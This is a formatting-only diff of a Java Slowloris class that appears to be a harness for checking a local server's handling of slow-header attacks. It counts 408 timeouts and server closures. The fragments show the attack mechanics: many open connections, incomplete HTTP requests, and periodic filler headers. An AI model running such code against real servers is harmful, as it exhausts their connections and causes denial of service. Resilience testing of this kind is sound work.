@@ -46,7 +46,8 @@ public final class Slowloris {
                     ch.connect(target);
                     ch.configureBlocking(false);
                     ch.register(selector, SelectionKey.OP_READ);
-                    ch.write(ByteBuffer.wrap("GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n".getBytes(StandardCharsets.US_ASCII)));
+                    ch.write(ByteBuffer.wrap(
+                            "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n".getBytes(StandardCharsets.US_ASCII)));
                     open.add(ch);
                     opened++;
                 } catch (IOException e) {
@@ -55,8 +56,8 @@ public final class Slowloris {
                 }
             }
             if (System.nanoTime() >= nextTrickle) {
-                ByteBuffer header = ByteBuffer.wrap(("X-Slow-" + (line++ % 1000) + ": x\r\n")
-                        .getBytes(StandardCharsets.US_ASCII));
+                ByteBuffer header =
+                        ByteBuffer.wrap(("X-Slow-" + (line++ % 1000) + ": x\r\n").getBytes(StandardCharsets.US_ASCII));
                 for (Iterator<SocketChannel> it = open.iterator(); it.hasNext(); ) {
                     SocketChannel ch = it.next();
                     try {
@@ -92,7 +93,8 @@ public final class Slowloris {
             selector.selectedKeys().clear();
         }
         for (SocketChannel ch : open) ch.close();
-        System.out.printf("SLOWLORIS connections=%d opened=%d closedByServer=%d got408=%d connectFailures=%d%n",
+        System.out.printf(
+                "SLOWLORIS connections=%d opened=%d closedByServer=%d got408=%d connectFailures=%d%n",
                 connections, opened, closedByServer, got408, refused);
     }
 }
